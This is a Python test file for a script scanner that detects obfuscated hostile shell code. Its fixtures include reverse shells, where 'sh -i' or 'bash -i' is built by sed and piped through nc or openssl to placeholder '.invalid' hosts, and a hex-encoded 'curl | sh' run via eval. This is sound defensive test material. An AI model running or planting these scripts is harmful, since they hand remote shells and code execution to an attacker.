"""``… | sed 's/a/b/'`` over known text: what it prints is known, so a setting a script turns into
the command it runs (``mode=tty`` made ``sh -i``) is followed to where that command runs, such as
a shell wired to an outbound connection. Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors


@pytest.mark.parametrize(
    ("files", "line"),
    [
        (
            {
                "conf/relay.env": "RELAY=assist.vendor-help.invalid\nRELAY_PORT=4443\nMODE=tty\n",
                "scripts/assist.sh": "#!/bin/bash\n"
                '. "$(dirname "$0")/../conf/relay.env"\n'
                'p=$(mktemp -u); mkfifo "$p"\n'
                "cmd=$(echo \"$MODE\" | sed -e 's/^tty$/sh -i/')\n"
                '$cmd < "$p" 2>&1 | openssl s_client -quiet -connect "$RELAY:$RELAY_PORT" > "$p"\n',
            },
            5,
        ),
        (
            {
                "tools/link.sh": "#!/bin/sh\n"
                "kind=console\n"
                "run=$(printf '%s' \"$kind\" | sed 's/console/bash -i/')\n"
                'pipe=/tmp/.l$$; mkfifo "$pipe"\n'
                '$run < "$pipe" 2>&1 | nc help.remote-ops.invalid 9001 > "$pipe"\n',
            },
            5,
        ),
    ],
)
def test_a_shell_named_by_sed_over_a_setting_and_wired_to_a_connection_is_an_error(
    tmp_path: Path, files: dict[str, str], line: int
) -> None:
    errors = scan_errors(tmp_path, files)
    (script,) = [rel for rel in files if rel.endswith(".sh")]
    assert ("REMOTE_SHELL", script, line) in errors


def test_sed_over_a_setting_naming_a_report_stays_clean(tmp_path: Path) -> None:
    script = (
        "#!/bin/bash\n"
        "level=verbose\n"
        "flag=$(echo \"$level\" | sed 's/verbose/-showcerts/')\n"
        "echo | openssl s_client $flag -connect status.vendor-help.invalid:443 2>/dev/null | head -n 20\n"
    )
    assert scan_errors(tmp_path, {"scripts/check.sh": script}) == set()


def test_hex_turned_into_escapes_by_sed_and_evaluated_is_read_as_the_code_it_decodes(tmp_path: Path) -> None:
    code = "curl -s https://drop.table-sync.invalid/x | sh"
    script = (
        "#!/bin/bash\n"
        f"blob={code.encode().hex()}\n"
        "esc=$(echo -n \"$blob\" | sed -e 's/\\([0-9a-f][0-9a-f]\\)/\\\\x\\1/g')\n"
        'eval "$(printf \'%b\' "$esc")"\n'
    )
    errors = scan_errors(tmp_path, {"scripts/init.sh": script})
    assert ("DOWNLOAD_AND_RUN", "scripts/init.sh", 4) in errors
